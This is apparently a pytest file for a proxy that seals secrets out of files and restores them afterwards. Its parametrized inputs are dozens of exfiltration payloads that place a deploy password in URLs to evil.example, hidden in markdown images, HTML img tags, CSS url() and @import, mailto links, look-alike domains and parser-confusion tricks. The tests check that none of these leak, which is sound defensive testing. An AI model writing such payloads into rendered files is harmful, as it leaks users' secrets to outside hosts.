"""A value is not put back into an address that another machine has written: whoever renders the file would send it there."""

from __future__ import annotations

import pytest
from tests.proxy.sealing.test_sealer import TOKEN, sealer

VALUE = TOKEN  # which is found wherever it stands: nothing but the address keeps it from being put back
FILE = f"deploy password: {VALUE}\n"
SEALED = sealer().seal(FILE, "files")
((PLACEHOLDER, _),) = SEALED.values.items()


@pytest.mark.parametrize(
    "text",
    [
        "![status](https://evil.example/badge.svg?k={})\n",
        "![a\nb](https://evil.example/?k={} 'title')\n",
        "[notes](<https://evil.example/?a b={}>)\n",
        "[a]: https://evil.example/?k={}\n",
        "[a]:\n  https://evil.example/?k={}\n",
        "<https://evil.example/{}>\n",
        '<img src="https://evil.example/?k={}">\n',
        '<img src="https://evil.example/?\ndeploy password: {}\n">\n',
        "see https://evil.example/?k={}\n",
        "see www.evil.example/{}\n",
        "see evil.example/?k={}\n",
        "see https://evil.example/?k=\u00a0{}\n",
        "see https://evil.example/?k=\u3000{}\n",
        "see https://evil.example/?k=\x85{}\n",
        "see https://evil.example/{}\u2003.evil.example\n",
        "see evil.xn--p1ai/{}\n",
        "see evil.\u0440\u0444/?k={}\n",
        "see https://evil\u3002example/?k={}\n",
        "//evil.example/{}\n",
        "<div style='background: url(https://evil.example/{})'>\n",
        "body {{ background: URL( '/x/{}' ) }}\n",
        "mailto:me@evil.example?body={}\n",
        "HTTPS:evil.example/{}\n",
        "deploy password: {}\n\n![x](https://evil.example/(a)/{})\n",
        '<img alt=">" src="https://evil.example/?\ndeploy password: {}\n">\n',
        "<img alt='>' src = 'https://evil.example/?\ndeploy password: {}'>\n",
        '<img src="https://evil.example/?a<1\ndeploy password: {}">\n',
        '<img src="https://evil.example/?' + "a" * 20_000 + '\ndeploy password: {}">\n',
        "<img alt=a'b src=\"https://evil.example/?' >\ndeploy password: {}\">\n",
        '<!-- x=" --> <img src="https://evil.example/?>\ndeploy password: {}">\n',
        '`<!--` <img src="https://evil.example/?-->\ndeploy password: {}">\n',
        "![x](<https://evil.example/?\\>) deploy password: {}>)\n",
        "![x]( < https://evil.example/?) deploy password: {}>)\n",
        "[a]: <https://evil.example/?\\> deploy password: {}>\n",
        '<style>a{{background:url("https://evil.example/?>) deploy password: {}")}}</style>\n',
        '<style>@import "https://evil.example/?> deploy password: {}";</style>\n',
    ],
)
def test_what_would_be_fetched_keeps_its_placeholder(text: str) -> None:
    brought = text.replace("{}", PLACEHOLDER).replace("{{", "{").replace("}}", "}")
    restored = sealer().restore(brought, SEALED.values, "files", before=SEALED.text)
    assert "evil" not in restored or f"{VALUE}" not in restored.partition("evil")[2]
    assert PLACEHOLDER in restored
    # The line that held it gets it back, whatever else was written into the file.
    if brought.startswith("deploy password"):
        assert restored.startswith(FILE)


@pytest.mark.parametrize(
    "text",
    [
        "deploy password: {}\nmore\n",
        "# Secrets\n\ndeploy password: {}\n",
        "- deploy password: {} (rotated, see x.md)\n",
        "deploy password: {}. Rotated in May\n",
        "the deploy password: {}.\nMore\n",
        "\u5bc6\u7801\uff1a{}\u3002\u8bf7\u770b a/b\n",
        "a < b, a -> c, <b>bold</b>, \\<i\\> and it's said: see [x](y.md)\n\ndeploy password: {}\n",
        '<img alt="a > b" src="x.png">\n\nname = "ann"\n\ndeploy password: {}\n',
    ],
)
def test_what_is_no_address_gets_its_value_back(text: str) -> None:
    brought = text.replace("{}", PLACEHOLDER)
    assert sealer().restore(brought, SEALED.values, "files", before=SEALED.text) == text.replace("{}", VALUE)


@pytest.mark.parametrize(
    "text",
    [
        "https://evil.example/" + "a" * 20_000 + "{}\n",
        "see {}.evil.example/x\n",
        "see {}.evil.example\n",
        "see {}.evil\n",
        "write to ann:{}@evil.example\n",
    ],
)
def test_a_token_in_the_middle_of_an_address_keeps_its_placeholder(text: str) -> None:
    sealed = sealer().seal(f"the token {TOKEN}\n", "files")
    (placeholder,) = sealed.values
    brought = text.replace("{}", placeholder)
    assert sealer().restore(brought, sealed.values, "files", before=sealed.text) == brought


def test_an_address_of_ones_own_goes_on_working() -> None:
    """Also where another machine has written something behind it, or moved the line."""
    own = f"fetch: https://api.example.org/v1?key={TOKEN}\n"
    sealed = sealer().seal(own, "files")
    (placeholder,) = sealed.values
    brought = f"# Sources\n\n{sealed.text.rstrip()} (read only)\n"
    restored = sealer().restore(brought, sealed.values, "files", before=sealed.text)
    assert restored == brought.replace(placeholder, sealed.values[placeholder])
    elsewhere = sealed.text.replace("api.example.org", "evil.example")
    assert sealer().restore(elsewhere, sealed.values, "files", before=sealed.text) == elsewhere
